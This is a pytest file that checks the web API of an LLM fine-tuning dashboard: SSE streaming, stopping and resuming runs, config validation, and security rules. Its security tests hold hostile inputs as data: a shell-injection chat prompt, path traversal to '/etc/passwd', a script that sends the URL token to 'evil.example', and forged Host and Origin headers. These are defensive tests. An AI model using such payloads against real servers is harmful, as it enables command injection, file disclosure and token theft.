"""The board's JSON API against a real `lmforge ui` on loopback (a child process), with tiny random models: a run
started, streamed over SSE, stopped with a checkpoint, resumed, queued, found again after a restart of the board;
the config form's validation by field; data, eval and chat as children of the board; the safety rules."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import httpx
import pytest
from test_ui_support import board, make_workspace, stop_all_trainings, tiny_config

from lmforge.ui.jobs import TRAIN_LOG


@pytest.fixture(scope="module")
def workspace(tmp_path_factory):
    root = make_workspace(tmp_path_factory.mktemp("board"))
    yield root
    stop_all_trainings(root)


def read_sse(live, name: str, until, timeout: float = 180, headers: dict | None = None):
    """(metrics records, status events) of a run's stream until `until(records, statuses)` holds."""
    records, statuses = [], []
    with live.client.stream("GET", f"/api/runs/{name}/stream", timeout=timeout, headers=headers) as response:
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/event-stream")
        event = None
        for line in response.iter_lines():
            if line.startswith("event: "):
                event = line[7:]
            elif line.startswith("data: "):
                data = json.loads(line[6:])
                (records.extend if event == "metrics" else statuses.append)(data)
                if until(records, statuses):
                    break
    return records, statuses


def test_a_run_streams_its_curves_and_survives_a_restart(workspace):
    with board(workspace) as live:
        preview = live.ok("POST", "/api/config/preview", {"config": tiny_config("first")})
        started = live.ok("POST", "/api/runs", {"config": tiny_config("first")})
        assert started["job"]["args"] == ["train", "runs/first/config.yaml"]  # an argv list, the config on disk
        assert (workspace / "runs/first/config.yaml").read_text() == preview["yaml"]
        records, statuses = read_sse(live, "first", lambda r, s: s and s[-1]["status"] in ("finished", "failed"))
        assert statuses[-1]["status"] == "finished", live.get("/api/runs/first/log").text
        assert [r["step"] for r in records] == [1, 2, 3]
        assert all({"loss", "grad_norm", "learning_rate", "tokens_per_s"} <= set(r) for r in records)
        assert statuses[0]["total_steps"] == 3
        detail = live.ok("GET", "/api/runs/first")
        assert detail["artifact"] == "adapter" and detail["config"]["model"]["name_or_path"] == "tiny-llama"
        assert "done:" in live.get("/api/runs/first/log").text
        # a second start of the same name is refused (the run dir holds a run), with what to do
        again = live.post("/api/runs", {"config": tiny_config("first")})
        assert again.status_code == 400 and "resume_from_checkpoint=latest" in again.json()["error"]

    # a run started from the command line, then a new board: both runs are there, nothing lost
    cli = subprocess.run([sys.executable, "-m", "lmforge", "train", "runs/first/config.yaml", "name=from-cli"],
                         cwd=workspace, capture_output=True, text=True, env={**os.environ, "HF_HUB_OFFLINE": "1"})
    assert cli.returncode == 0, cli.stderr[-2000:]
    with board(workspace) as live:
        runs = {r["name"]: r for r in live.ok("GET", "/api/runs")["runs"]}
        assert runs["first"]["status"] == "finished" and runs["first"]["step"] == 3
        assert runs["from-cli"]["status"] == "finished" and runs["from-cli"]["job"] is None
        records, _ = read_sse(live, "from-cli", lambda r, s: len(r) >= 3)
        assert [r["step"] for r in records] == [1, 2, 3]
        # a reconnecting EventSource sends the last id it saw: only what came after
        records, _ = read_sse(live, "from-cli", lambda r, s: r and s, headers={"Last-Event-ID": "2"})
        assert [r["step"] for r in records] == [3]


def test_stop_saves_a_checkpoint_resume_continues_and_a_second_run_queues(workspace):
    with board(workspace, "--max-runs", "1") as live:
        live.ok("POST", "/api/runs", {"config": tiny_config("long", max_steps=100000)})
        queued = live.ok("POST", "/api/runs", {"config": tiny_config("waiting", max_steps=100000)})
        assert queued["job"]["state"] == "queued" and queued["queue_position"] == 1
        live.wait_run("long", lambda r: r["step"] >= 2)
        assert live.ok("GET", "/api/runs/waiting")["status"] == "queued"

        live.ok("POST", "/api/runs/long/stop")  # SIGINT: lmforge train finishes the step and checkpoints
        stopped = live.wait_run("long", lambda r: r["status"] not in ("running", "stopping"))
        assert stopped["status"] == "stopped" and stopped["checkpoints"], live.get("/api/runs/long/log").text
        checkpoint_step = int(stopped["checkpoints"][-1].removeprefix("step-"))
        # the queue moves on: the waiting run starts once the first has stopped
        live.wait_run("waiting", lambda r: r["status"] == "running")
        live.ok("POST", "/api/runs/waiting/stop")
        live.wait_run("waiting", lambda r: r["status"] == "stopped")

        resumed = live.ok("POST", "/api/runs/long/resume")
        assert resumed["job"]["args"][-1] == "train.resume_from_checkpoint=latest"
        live.wait_run("long", lambda r: r["step"] > checkpoint_step + 1)
        records = live.ok("GET", "/api/runs/long/metrics")["records"]
        steps = [r["step"] for r in records]
        assert steps == list(range(1, len(steps) + 1))  # history kept up to the checkpoint, then continued
        # the whole log (the page's tail may have scrolled past the line on a fast machine)
        assert "resumed from" in (workspace / "runs" / "long" / TRAIN_LOG).read_text(encoding="utf-8")
    # the board stopped while the resumed training ran: the training goes on, and the next board adopts it
    with board(workspace) as live:
        run = live.ok("GET", "/api/runs/long")
        assert run["status"] == "running", run
        live.ok("POST", "/api/runs/long/stop")
        assert live.wait_run("long", lambda r: r["status"] == "stopped")["checkpoints"]
        assert live.post("/api/runs/long/stop").status_code == 400  # not running any more: said so


def test_config_errors_come_back_by_field(workspace):
    with board(workspace) as live:
        config = tiny_config("bad", learning_rate="fast", batch_size=0.5)
        config["method"] = {"type": "lorax"}
        config["train"]["unknown_key"] = 1
        response = live.post("/api/config/preview", {"config": config})
        assert response.status_code == 422
        paths = {e["path"] for e in response.json()["errors"]}
        assert {"train.learning_rate", "train.batch_size", "method.type", "train.unknown_key"} <= paths
        refused = live.post("/api/runs", {"config": {**tiny_config("x"), "train": {"output_dir": "/tmp/elsewhere"}}})
        assert refused.status_code == 422 and refused.json()["errors"][0]["path"] == "train.output_dir"
        assert live.post("/api/config/preview", {"config": {**tiny_config("x"), "name": "../up"}}).status_code == 400
        assert live.post("/api/runs", {"config": "name: x"}).status_code == 422
        assert live.client.post("/api/runs", content=b"{not json", headers={"Content-Type": "application/json"}) \
            .status_code == 400
        assert live.post("/api/runs/nope/stop").status_code == 400
        schema = live.ok("GET", "/api/schema")
        assert schema["$defs"]["TrainConfig"]["properties"]["learning_rate"]["description"]


def test_estimate_follows_the_method_and_batch_and_uses_measured_speed(workspace):
    with board(workspace) as live:
        def estimate(**changes):
            config = tiny_config("estimate", **changes.pop("train", {}))
            config["method"] = changes.pop("method", {"type": "lora"})
            return live.ok("POST", "/api/estimate", {"config": config})
        lora, full = estimate(), estimate(method={"type": "full"})
        bigger = estimate(train={"batch_size": 8})
        assert lora["trainable_parameters"] < full["trainable_parameters"] == full["parameters"]
        assert lora["memory_mib"]["optimizer"] <= full["memory_mib"]["optimizer"]
        assert bigger["memory_mib"]["activations"] > lora["memory_mib"]["activations"]
        assert lora["steps"] == 3 and lora["seconds"] == pytest.approx(3 * lora["seconds_per_step"], rel=0.02, abs=0.05)
        epochs = estimate(train={"max_steps": -1, "num_train_epochs": 2, "batch_size": 4})
        assert epochs["steps"] == 6  # 12 records / 4 per step × 2 epochs, from the data file
        if (workspace / "runs/first/metrics.jsonl").is_file():
            assert lora["speed_source"] == "measured"


def test_data_inspect_clean_split_as_children(workspace):
    with board(workspace) as live:
        job = live.ok("POST", "/api/data/inspect", {"path": "data/qa.jsonl", "model": "tiny-llama", "samples": 1})
        assert job["args"][:3] == ["data", "inspect", "data/qa.jsonl"]
        done = live.wait_job(job["id"])
        report = json.loads(done["output"])
        assert report["files"][0]["shape"] and report["conversations"] == 12
        assert any(s["trained"] for s in report["samples"][0]["segments"])
        recipe = live.get("/api/data/recipe").text
        done = live.wait_job(live.ok("POST", "/api/data/clean", {"path": "data/qa.jsonl", "recipe": recipe})["id"])
        assert done["state"] == "done", done["log_tail"]
        page = live.get("/api/files/raw", params={"path": done["meta"]["report_html"]})
        assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
        assert page.headers["content-security-policy"].startswith("sandbox allow-scripts;")  # not the board's origin
        done = live.wait_job(live.ok("POST", "/api/data/split", {"path": "data/qa.jsonl", "val": "2"})["id"])
        assert done["state"] == "done"
        assert sum(1 for _ in (workspace / done["meta"]["val"]).open()) == 2


def test_eval_and_chat_from_the_board(workspace):
    """Compare, export and serve from the page are driven in tests/test_ui_page.py (the browser test)."""
    with board(workspace) as live:
        if not (workspace / "runs/first/adapter").is_dir():  # run alone: train it here
            live.ok("POST", "/api/runs", {"config": tiny_config("first")})
            live.wait_run("first", lambda r: r["status"] == "finished")
        test = {"data": "data/qa.jsonl", "max_samples": 2, "max_new_tokens": 4}
        done = live.wait_job(live.ok("POST", "/api/runs/first/eval", test)["id"])
        assert done["state"] == "done", done["log_tail"]
        assert done["args"][:2] == ["eval", "runs/first"]
        assert live.ok("GET", "/api/runs/first")["eval"]

        prompt = "$(touch pwned); `touch pwned2` | echo hi"  # one argv element: no shell ever sees it
        chat = live.ok("POST", "/api/chat", {"prompt": prompt, "models": ["first"], "max_new_tokens": 4})["jobs"][0]
        assert chat["args"][:2] == ["chat", "runs/first"] and prompt in chat["args"]
        done = live.wait_job(chat["id"])
        assert done["state"] == "done" and "using final weights" in done["log_tail"], done["log_tail"]
        assert "output" in done  # the reply (stdout alone; a tiny random model may answer with nothing printable)
        assert not (workspace / "pwned").exists() and not (workspace / "pwned2").exists()
        assert live.post("/api/chat", {"prompt": "hi", "models": ["nowhere"]}).status_code == 422


def test_paths_stay_inside_the_workspace(workspace, tmp_path):
    outside = tmp_path / "secret.jsonl"
    outside.write_text('{"messages": []}\n')
    (workspace / "data" / "link.jsonl").symlink_to(outside)
    (workspace / "escape").symlink_to(tmp_path, target_is_directory=True)
    with board(workspace) as live:
        for path in ("../secret.jsonl", str(outside), "data/link.jsonl", "escape/secret.jsonl", "data/../../x",
                     "/etc/passwd"):
            response = live.get("/api/files/raw", params={"path": path})
            assert response.status_code == 403, (path, response.text)
            assert live.post("/api/data/inspect", {"path": path}).status_code == 403
        assert live.post("/api/data/inspect", {"path": "--help"}).status_code == 422  # never an option
        assert live.post("/api/compare", {"models": ["../../etc"], "data": "data/qa.jsonl"}).status_code == 403
        listed = [f["path"] for f in live.ok("GET", "/api/files")["files"]]
        assert "data/qa.jsonl" in listed and "data/link.jsonl" not in listed
        assert live.get("/api/files/raw", params={"path": "data/qa.jsonl"}).status_code == 200


def test_uploads_are_size_limited_and_named_plainly(tmp_path):
    workspace = make_workspace(tmp_path / "ws", with_model=False)
    with board(workspace, "--max-upload-mb", "1") as live:
        ok = live.client.put("/api/files/upload", params={"name": "new.jsonl"}, content=b'{"a": 1}\n')
        assert ok.status_code == 200 and (workspace / "data/new.jsonl").read_bytes() == b'{"a": 1}\n'
        big = live.client.put("/api/files/upload", params={"name": "big.jsonl"}, content=b"x" * (2 * 2**20))
        assert big.status_code == 413

        def chunks():  # no Content-Length: the limit holds on the stream too
            for _ in range(40):
                yield b"y" * 65536
        streamed = live.client.put("/api/files/upload", params={"name": "stream.jsonl"}, content=chunks())
        assert streamed.status_code == 413
        for name in ("../evil.jsonl", ".hidden.jsonl", "run.sh", "a/b.jsonl"):
            assert live.client.put("/api/files/upload", params={"name": name}, content=b"{}").status_code == 400
        assert sorted(p.name for p in (workspace / "data").iterdir()) == ["new.jsonl", "qa.jsonl"]


def test_token_on_every_call_and_stream_and_no_open_bind(tmp_path):
    workspace = make_workspace(tmp_path / "ws", with_model=False)
    token = "t0ken-for-the-board-test"
    with board(workspace, token=token) as live:
        anonymous = httpx.Client(base_url=live.url, timeout=10)
        assert anonymous.get("/api/info").status_code == 401
        assert anonymous.get("/api/info", headers={"Authorization": "Bearer wrong-token-xxxxxxx"}).status_code == 401
        assert anonymous.post("/api/runs", json={"config": tiny_config("x")}).status_code == 401
        assert anonymous.get("/api/files/raw", params={"path": "data/qa.jsonl"}).status_code == 401
        assert anonymous.get("/api/runs/x/stream").status_code == 401
        assert anonymous.get("/api/info", params={"token": token}).status_code == 200  # EventSource's way
        (workspace / "page.html").write_text("<script>fetch('//evil.example/?' + location.search)</script>")
        assert anonymous.get("/api/files/raw", params={"path": "page.html", "token": token}).status_code == 403
        assert live.get("/api/files/raw", params={"path": "page.html"}).status_code == 200
        assert anonymous.get("/").status_code == 200  # the page itself holds nothing; it asks for the token
        assert live.get("/api/info").status_code == 200
        # DNS rebinding and cross-site requests: another Host or Origin is refused
        assert anonymous.get("/api/info", headers={"Host": "evil.example:80"}, params={"token": token}) \
            .status_code == 421
        for origin in ("http://evil.example", "null"):  # null: a sandboxed page, e.g. a report opened from the board
            assert live.post("/api/config/preview", {"config": tiny_config("x")},
                             headers={"Origin": origin}).status_code == 403
        anonymous.close()
    refused = subprocess.run(
        [sys.executable, "-m", "lmforge", "ui", "--host", "0.0.0.0", "--workspace", str(workspace)],
        capture_output=True, text=True, timeout=60)
    assert refused.returncode == 2 and "--auth-token" in refused.stderr
    short = subprocess.run(
        [sys.executable, "-m", "lmforge", "ui", "--host", "0.0.0.0", "--auth-token", "short",
         "--workspace", str(workspace)], capture_output=True, text=True, timeout=60)
    assert short.returncode == 2 and "too short" in short.stderr
